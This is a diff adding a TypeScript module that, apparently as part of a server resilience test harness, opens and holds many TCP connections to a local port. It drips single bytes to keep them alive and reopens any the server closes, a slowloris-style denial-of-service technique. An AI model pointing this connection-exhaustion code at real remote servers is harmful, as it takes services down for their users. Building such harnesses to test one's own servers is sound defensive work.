@@ -1,0 +1,61 @@
+import { once } from 'node:events';
+import { connect, type Socket } from 'node:net';
+import type { AttackReport, HeldConnections } from './attack.js';
+import { answerCounter } from './count-answers.js';
+
+const atOnce = 100;
+// Whoever opens connections as fast as they are ended needs more of the machine than who ends them.
+const againAtOnce = 10;
+const againMilliseconds = 200;
+const dripMilliseconds = 1000;
+
+/** Begins to hold connections; one that the other side ends is opened again. */
+export function holdConnections(attack: HeldConnections): () => AttackReport {
+  const open = new Set<Socket>();
+  const statuses: Record<string, number> = {};
+  const first = Buffer.from(attack.first, 'base64');
+  const drip = Buffer.from(attack.drip, 'base64');
+  let done = 0;
+  let dripped = 0;
+  const keepUp = async (): Promise<void> => {
+    for (;;) {
+      const isFirstRound = done < attack.connections;
+      const missing = Math.min(isFirstRound ? atOnce : againAtOnce, attack.connections - open.size);
+      for (const socket of await Promise.all(Array.from({ length: missing }, () => openOne(attack.port)))) {
+        done += 1;
+        if (socket !== undefined) hold(socket);
+      }
+      await new Promise((resolve) => setTimeout(resolve, isFirstRound ? 1 : againMilliseconds));
+    }
+  };
+  const hold = (socket: Socket): void => {
+    open.add(socket);
+    socket.on('error', () => undefined).on('close', () => open.delete(socket));
+    const count = answerCounter(statuses);
+    if (attack.readsAnswers) socket.on('data', count);
+    else socket.pause();
+    socket.write(first);
+  };
+  void keepUp();
+  if (drip.length > 0) {
+    setInterval(() => {
+      const byte = drip.subarray(dripped % drip.length, (dripped % drip.length) + 1);
+      dripped += 1;
+      for (const socket of open) socket.write(byte);
+    }, dripMilliseconds);
+  }
+  return () => ({ isInForce: done >= attack.connections, isOver: false, open: open.size, done, statuses });
+}
+
+/** `undefined` where the machine or the other side does not take one more. */
+async function openOne(port: number): Promise<Socket | undefined> {
+  const socket = connect(port, '127.0.0.1');
+  try {
+    await once(socket, 'connect');
+    return socket;
+  } catch (error) {
+    const { code } = error as NodeJS.ErrnoException;
+    if (code === undefined) throw error;
+    return undefined;
+  }
+}
